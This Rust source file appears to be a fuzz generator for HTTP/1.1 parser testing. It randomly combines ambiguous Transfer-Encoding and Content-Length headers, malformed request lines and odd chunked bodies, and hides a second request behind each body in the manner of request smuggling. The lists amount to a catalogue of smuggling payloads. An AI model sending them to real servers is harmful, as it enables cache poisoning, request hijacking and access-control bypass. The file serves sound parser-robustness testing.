//! What an attacker tries over HTTP/1.1: heads whose framing two readers could take in two ways, bodies that end in two
//! places, and a request hidden where the one sees a body and the other does not. Put together by chance, from one seed.

use rand::{Rng, rngs::StdRng};

/// How a request begins, most of the time.
const LINE: &str = "POST / HTTP/1.1";
const LINES: [&str; 8] = [
    "GET / HTTP/1.1",
    "PUT /x?y=z HTTP/1.1",
    "POST / HTTP/1.0",
    "POST http://x/ HTTP/1.1",
    "POST  / HTTP/1.1",
    "post / HTTP/1.1",
    "POST / HTTP/1.2",
    "OPTIONS * HTTP/1.1",
];

/// Fields that only some read as a chunked body.
const CODINGS: [&str; 36] = [
    "transfer-encoding: chunked",
    "Transfer-Encoding: chunked",
    "TRANSFER-ENCODING: CHUNKED",
    "transfer-encoding: Chunked",
    "transfer-encoding:chunked",
    "transfer-encoding:\tchunked",
    "transfer-encoding: chunked \t",
    "transfer-encoding: chunked, identity",
    "transfer-encoding: identity, chunked",
    "transfer-encoding: identity",
    "transfer-encoding: chunked\r\ntransfer-encoding: identity",
    "transfer-encoding: identity\r\ntransfer-encoding: chunked",
    "transfer-encoding: chunked\r\ntransfer-encoding: chunked",
    "transfer-encoding: chunked, chunked",
    "transfer-encoding: gzip, chunked",
    "transfer-encoding: xchunked",
    "transfer-encoding: x",
    "transfer-encoding: chunkedx",
    "transfer-encoding: chunked;q=1",
    "transfer-encoding: \"chunked\"",
    "transfer-encoding: ,chunked",
    "transfer-encoding: chunked,",
    "transfer-encoding:",
    "transfer-encoding: \u{b}chunked",
    "transfer-encoding: chunked\u{b}",
    "transfer-encoding: chunked\0",
    "transfer-encoding: chu\r\n nked",
    "transfer-encoding:\r\n chunked",
    "transfer-encoding : chunked",
    "transfer-encoding\t: chunked",
    " transfer-encoding: chunked",
    "transfer_encoding: chunked",
    "transfer-encoding\0: chunked",
    "x: y\ntransfer-encoding: chunked",
    "x: y\rtransfer-encoding: chunked",
    "x: y\r\n transfer-encoding: chunked",
];

/// Lengths that only some read as this number.
const LENGTHS: [&str; 18] = [
    "content-length: N",
    "content-length: N",
    "Content-Length: N",
    "content-length: 0\r\ncontent-length: N",
    "content-length: N\r\ncontent-length: 0",
    "content-length: N\r\ncontent-length: N",
    "content-length: N, N",
    "content-length: 0, N",
    "content-length: +N",
    "content-length: 00N",
    "content-length: 0xN",
    "content-length: N\u{b}",
    "content-length: N 0",
    "content-length : N",
    " content-length: N",
    "content_length: N",
    "x: y\ncontent-length: N",
    "content-length: 18446744073709551616N",
];

const ASIDE: [&str; 10] = [
    "connection: keep-alive, content-length",
    "connection: keep-alive, transfer-encoding",
    "connection: host",
    "expect: 100-continue",
    "upgrade: h2c\r\nconnection: upgrade",
    "te: trailers\r\ntrailer: content-length",
    "x: y\r\n folded",
    "x: y\rz: a",
    "host: y",
    "x-stamp: mine",
];

/// How a chunked body may seem to end, or not.
const BODIES: [&str; 20] = [
    "0\r\n\r\n",
    "0\r\n\r\n",
    "5\r\nhello\r\n0\r\n\r\n",
    "5;name=value\r\nhello\r\n0\r\n\r\n",
    "5;\nx\r\nhello\r\n0\r\n\r\n",
    "5 \r\nhello\r\n0\r\n\r\n",
    "5\nhello\n0\n\n",
    "5\r\nhello0\r\n\r\n",
    "5\r\nhelloXX0\r\n\r\n",
    "0\n\n",
    "0\r\n\n",
    "0\n\r\n",
    "0;\r\n\r\n",
    "+0\r\n\r\n",
    "0x0\r\n\r\n",
    "-0\r\n\r\n",
    "0\r\nx-trailer: y\r\n\r\n",
    "0\r\ncontent-length: 5\r\ntransfer-encoding: chunked\r\n\r\n",
    "10000000000000000\r\n\r\n0\r\n\r\n",
    "",
];

fn one(dice: &mut StdRng, of: &[&'static str]) -> &'static str {
    of[dice.random_range(0..of.len())]
}

/// A request that nobody sends, whole or with an end that would swallow the next one's beginning.
pub fn hidden(dice: &mut StdRng, number: usize) -> String {
    let end = if dice.random_bool(0.5) { "\r\n" } else { "x-swallows: " };
    format!("GET /hidden/{number} HTTP/1.1\r\nhost: x\r\n{end}")
}

/// A request, what is hidden behind it, and one more after which the connection ends.
pub fn smuggled(dice: &mut StdRng, number: usize) -> String {
    let body = one(dice, &BODIES);
    let hidden = hidden(dice, number);
    let after = "GET /after HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n";
    let line_end = if dice.random_bool(0.95) { "\r\n" } else { "\n" };
    let lengths = [0, 1, 5, body.len(), body.len() + hidden.len()];
    let length = lengths[dice.random_range(0..lengths.len())];
    let line = if dice.random_bool(0.8) { LINE } else { one(dice, &LINES) };
    let mut fields = vec!["host: x".to_owned()];
    for (kind, chance) in [(&ASIDE[..], 0.3), (&CODINGS[..], 0.6), (&LENGTHS[..], 0.5), (&CODINGS[..], 0.1)] {
        if dice.random_bool(chance) {
            let place = dice.random_range(0..=fields.len());
            fields.insert(place, one(dice, kind).replace('N', &length.to_string()));
        }
    }
    let head = [vec![line.to_owned()], fields].concat().join(line_end);
    format!("{head}{line_end}{line_end}{body}{hidden}{after}")
}
